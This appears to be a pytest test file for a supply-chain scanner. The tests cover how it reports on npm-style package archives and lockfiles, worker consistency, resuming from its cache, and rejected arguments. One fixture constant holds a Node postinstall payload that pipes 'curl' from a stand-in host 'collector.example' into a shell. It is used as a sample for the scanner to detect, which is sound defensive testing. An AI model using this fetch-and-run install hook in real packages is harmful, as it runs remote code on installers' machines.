import json
from pathlib import Path
from typing import Any

import pytest
import trees
from corpora import tarred

_EVIL = b"require('child_process').exec('curl -s https://collector.example/x | sh')"


def _packed(name: str, code: bytes = b"") -> bytes:
    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}
    files = {"package/package.json": json.dumps(manifest).encode(), "package/i.js": code}
    return tarred(files)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Six archives, of which one is bad and one is broken, a lockfile, and a file of notes."""
    files: dict[str, str | bytes] = {f"p{n}.tgz": _packed(f"p{n}") for n in range(4)}
    files |= {"bad one.tgz": _packed("bad", _EVIL), "broken.tgz": b"x", "fetched.json": "{}"}
    lock = {"lockfileVersion": 3, "packages": {"": {"name": "x"}}}
    files["package-lock.json"] = json.dumps(lock)
    return trees.lay(tmp_path / "t", files)


def _scan(folder: Path, *words: str | Path) -> tuple[int, dict[str, Any]]:
    cwd = folder.parent
    done = trees.run("scan", "-f", "json", "--deterministic-output", *words, cwd=cwd)
    assert done.returncode in {0, 1, 3}, done.stderr
    return done.returncode, json.loads(done.stdout)


def test_a_folder(folder: Path) -> None:
    """A part for each archive and lockfile; what is broken leaves its own part unfinished."""
    code, report = _scan(folder, "--from", folder, "--exit-code")
    names = [part["name"] for part in report["parts"]]
    whole = {part["name"]: not part["errors"] for part in report["parts"]}
    found = {part["name"] for part in report["parts"] for each in part["findings"]
             if each["severity"] == "critical"}  # fmt: skip
    assert code == 1
    assert sorted(names) == ["bad one.tgz", "broken.tgz", *(f"p{n}.tgz" for n in range(4)),
                             "package-lock.json"]  # fmt: skip
    assert [name for name, sound in whole.items() if not sound] == ["broken.tgz"]
    assert found == {"bad one.tgz"}


def test_a_list(folder: Path) -> None:
    """Paths are relative to the list, blanks in them and all; what is gone is an error."""
    (folder / "list").write_text("# mine\np1.tgz\nbad one.tgz\r\np1.tgz\ngone.tgz\n")
    code, report = _scan(folder, "--from", folder / "list")
    errors = {part["name"]: part["errors"] for part in report["parts"]}
    assert code == 3
    assert set(errors) == {"bad one.tgz", "gone.tgz", "p1.tgz"}
    assert "neither a folder" in errors["gone.tgz"][0]["why"]


@pytest.mark.parametrize("words", [("-j", "1"), ("-j", "3"), ("-j", "3", "--workers", "threads")])
def test_workers_change_nothing(folder: Path, words: tuple[str, ...]) -> None:
    """The same report from one process, three, or three threads."""
    _, alone = _scan(folder, "--from", folder, "-j", "1", "--no-cache")
    assert _scan(folder, "--from", folder, "--no-cache", *words)[1] == alone


def _notes(folder: Path) -> list[str]:
    [file] = (folder.parent / ".cache/picketline/lists").iterdir()
    return file.read_text().splitlines(keepends=True)


def test_it_goes_on_where_it_was(folder: Path) -> None:
    """What was noted is not scanned again; what changed since, or was cut off, is."""
    _, first = _scan(folder, "--from", folder)
    [file] = (folder.parent / ".cache/picketline/lists").iterdir()
    lines = _notes(folder)
    assert len(lines) == 6
    assert "collector.example" in "".join(lines)
    file.write_text("".join(lines[:3]) + lines[3][:40])
    assert _scan(folder, "--from", folder)[1] == first
    (folder / "p0.tgz").write_bytes(_packed("p0", _EVIL))
    _, changed = _scan(folder, "--from", folder)
    severities = {part["name"]: {each["severity"] for each in part["findings"]}
                  for part in changed["parts"]}  # fmt: skip
    assert "critical" in severities["p0.tgz"]


def test_notes_that_others_may_write_are_not_believed(folder: Path) -> None:
    """A file that is not this user's alone says nothing."""
    _, first = _scan(folder, "--from", folder)
    [file] = (folder.parent / ".cache/picketline/lists").iterdir()
    file.write_text(file.read_text().replace('"findings":[{', '"findings":[],"x":[{'))
    file.chmod(0o666)
    assert _scan(folder, "--from", folder)[1] == first


@pytest.mark.parametrize(
    ("words", "problem"),
    [
        (("scan",), "give either TARGET or --from"),
        (("scan", ".", "--from", "t"), "give either TARGET or --from"),
        (("scan", "--from", "t", "--verify-determinism"), "goes with neither"),
        (("scan", "--from", "t", "-f", "cyclonedx"), "goes with neither"),
        (("scan", "--from", "empty"), "lists nothing to scan"),
    ],
)
def test_what_is_refused(folder: Path, words: tuple[str, ...], problem: str) -> None:
    """With what to do instead."""
    (folder.parent / "empty").write_text("# nothing\n")
    done = trees.run(*words, cwd=folder.parent)
    assert done.returncode == 2
    assert problem in done.stderr
